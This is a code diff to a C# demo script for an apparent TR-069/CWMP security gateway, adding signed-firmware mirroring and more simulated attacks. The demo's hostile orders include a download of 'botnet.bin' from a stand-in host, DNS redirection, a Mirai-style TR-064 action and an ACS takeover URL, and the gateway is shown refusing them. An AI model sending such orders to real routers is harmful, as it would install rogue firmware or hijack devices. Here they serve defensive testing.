@@ -1,20 +1,27 @@
 using System.Net;
 using System.Threading.Channels;
 using CwmpShield.Core.Cwmp;
+using CwmpShield.Core.Firmware;
 using CwmpShield.Core.Rules;
 using CwmpShield.Gateway.Inspection;
+using CwmpShield.Gateway.Mirror;
 
 namespace CwmpShield.Cli.Demo;
 
-/// <summary>What is played: ordinary sessions first, then five attacks, each with an honest order behind it that must arrive.</summary>
+/// <summary>What is played: ordinary sessions first, then nine attacks, each with an honest order behind it that must arrive.</summary>
 internal sealed class DemoScript(DemoGateway gateway, DemoAcs acs, DemoTable table)
 {
-    /// <summary>The one image that the demonstration's list of signed artefacts names.</summary>
-    public const string SignedFirmware = "https://firmware.example.net/hgw-4.3.0.bin";
-
     private static readonly DeviceId Alice = new("001122", "HGW", "DEMO0001");
     private static readonly DeviceId Bob = new("001122", "HGW", "DEMO0002");
     private static readonly DeviceId Mallory = new("001122", "HGW", "DEMO0003");
+
+    private const int MaxTries = 50;
+    private const int TryAgainMilliseconds = 100;
+
+    private static readonly Dictionary<string, string> WhyNoRule = new(StringComparer.Ordinal)
+    {
+        [MirrorReason.HashMismatch] = "What the mirror fetched has another SHA-256 than what was signed",
+    };
 
     private readonly List<DemoRow> rows = [];
     private readonly Dictionary<string, string> titles = RuleSetLoader.Load(gateway.Rules, new RuleLoadOptions()).Set?.Rules.ToDictionary(rule => rule.Id, rule => rule.Title, StringComparer.Ordinal) ?? [];
@@ -32,11 +39,15 @@ internal sealed class DemoScript(DemoGateway gateway, DemoAcs acs, DemoTable tab
         await HonestAsync(alice, Alice, "reads a parameter", DemoSoap.Get("Device.DeviceInfo.UpTime"), cancellation);
         await HonestAsync(alice, Alice, "sets the Inform interval", DemoSoap.Set(("Device.ManagementServer.PeriodicInformInterval", "3600")), cancellation);
         await HonestAsync(alice, Alice, "is given the operator's resolver", DemoSoap.Set(("Device.DNS.Client.Server.1.DNSServer", "192.0.2.53")), cancellation);
-        await HonestAsync(alice, Alice, "downloads the signed firmware", DemoSoap.Download(SignedFirmware), cancellation);
+        await UpdateAsync(alice, Alice, cancellation);
         await HonestAsync(bob, Bob, "logs in by Digest, reads a parameter", DemoSoap.Get("Device.DeviceInfo.UpTime"), cancellation);
 
         table.Say("The ACS has been taken over: its orders turn hostile");
         await AttackAsync(alice, Alice, "rogue firmware", DemoSoap.Download("https://203.0.113.66/botnet.bin"), cancellation);
+        await AttackAsync(bob, Bob, "old firmware, whose holes are known", DemoSoap.Download(DemoFirmware.Url("hgw", "4.1.0")), cancellation);
+        await AttackAsync(bob, Bob, "firmware of another model", DemoSoap.Download(DemoFirmware.Url("ont", DemoFirmware.Version)), cancellation);
+        await AttackAsync(bob, Bob, "firmware that was withdrawn", DemoSoap.Download(DemoFirmware.Url("hgw", "4.2.9")), cancellation);
+        await AttackAsync(bob, Bob, "firmware that was altered at the vendor's", DemoSoap.Download(DemoFirmware.Url("hgw", "4.4.0")), cancellation);
         await AttackAsync(bob, Bob, "DNS redirection", DemoSoap.Set(("Device.DNS.Client.Server.1.DNSServer", "203.0.113.66")), cancellation);
         await AttackAsync(alice, Alice, "TR-064 action (Mirai, 2016)", DemoSoap.Tr064(), cancellation);
         await AttackAsync(bob, Bob, "ACS takeover", DemoSoap.Set(("Device.ManagementServer.URL", "https://acs.evil.example/")), cancellation);
@@ -56,12 +67,45 @@ internal sealed class DemoScript(DemoGateway gateway, DemoAcs acs, DemoTable tab
             id.SerialNumber, what, refusal is null ? "forwarded" : "refused", refusal?.Rule ?? "", refusal?.Why ?? "", $"ACS got {Told()}", obeyed));
     }
 
+    /// <summary>The signed image: the gateway fetches and verifies it while the ACS is told to wait, and then serves it itself.</summary>
+    private async Task UpdateAsync(DemoDevice device, DeviceId id, CancellationToken cancellation)
+    {
+        var waits = 0;
+        for (; waits < MaxTries && !device.Obeyed.Contains("Download"); waits++)
+        {
+            await Task.Delay(waits == 0 ? 0 : TryAgainMilliseconds, cancellation);
+            acs.Order(id.SerialNumber, DemoSoap.Download(DemoFirmware.Url("hgw", DemoFirmware.Version)));
+            await RunAsync(device, cancellation);
+        }
+
+        var isSigned = device.Obeyed is ["Download"] && gateway.Firmware.IsSigned(await device.FetchAsync(cancellation));
+        var mirror = isSigned ? new Uri(device.FetchesFrom).Authority : "";
+        device.Version = DemoFirmware.Version;
+        var status = await RunAsync(device, cancellation, "7 TRANSFER COMPLETE", DemoSoap.TransferComplete());
+        Show(new DemoRow(
+            id.SerialNumber,
+            "downloads the signed firmware through the mirror",
+            isSigned ? "forwarded" : "refused",
+            "",
+            "",
+            $"ACS was told artefact-not-ready {(waits > 2 ? $"{waits - 1} times" : "once")} while the image was fetched and verified; the device got it from {mirror}, and reports {device.Version}",
+            isSigned && mirror.EndsWith($":{gateway.Firmware.Port}", StringComparison.Ordinal) && status == HttpStatusCode.NoContent));
+    }
+
     private async Task AttackAsync(DemoDevice device, DeviceId id, string what, string order, CancellationToken cancellation)
     {
-        acs.Order(id.SerialNumber, order);
-        acs.Order(id.SerialNumber, DemoSoap.Get("Device.DeviceInfo.UpTime"));
-        var status = await RunAsync(device, cancellation);
-        var refusal = Refusal();
+        HttpStatusCode status;
+        (string Rule, string Why)? refusal;
+        var tries = 0;
+        do
+        {
+            await Task.Delay(tries == 0 ? 0 : TryAgainMilliseconds, cancellation);
+            acs.Order(id.SerialNumber, order);
+            acs.Order(id.SerialNumber, DemoSoap.Get("Device.DeviceInfo.UpTime"));
+            status = await RunAsync(device, cancellation);
+            refusal = Refusal();
+        }
+        while (refusal?.Rule == ArtefactReason.NotReady && ++tries < MaxTries);
         var told = Told();
         var unharmed = status == HttpStatusCode.NoContent && device.Obeyed is ["GetParameterValues"];
         Show(new DemoRow(
@@ -91,7 +135,7 @@ internal sealed class DemoScript(DemoGateway gateway, DemoAcs acs, DemoTable tab
             status == HttpStatusCode.Forbidden && acs.Informed.Count == informed && forger.Obeyed.Count == 0));
     }
 
-    private async Task<HttpStatusCode> RunAsync(DemoDevice device, CancellationToken cancellation)
+    private async Task<HttpStatusCode> RunAsync(DemoDevice device, CancellationToken cancellation, string eventCode = "2 PERIODIC", string? report = null)
     {
         device.Obeyed.Clear();
         acs.Answers.Clear();
@@ -99,7 +143,7 @@ internal sealed class DemoScript(DemoGateway gateway, DemoAcs acs, DemoTable tab
         {
         }
 
-        return await device.InformAsync("2 PERIODIC", cancellation);
+        return await device.InformAsync(eventCode, report, cancellation);
     }
 
     /// <summary>The first refusal among what was judged since the session began.</summary>
@@ -114,7 +158,7 @@ internal sealed class DemoScript(DemoGateway gateway, DemoAcs acs, DemoTable tab
 
             var rule = judged.Decision.Hits.Select(hit => hit.RuleId).FirstOrDefault();
             var reason = judged.Decision.Reasons.FirstOrDefault("");
-            return rule is null ? (reason, "refused before any rule was asked") : (rule, titles.GetValueOrDefault(rule, reason));
+            return rule is null ? (reason, WhyNoRule.GetValueOrDefault(reason, "refused before any rule was asked")) : (rule, titles.GetValueOrDefault(rule, reason));
         }
 
         return null;
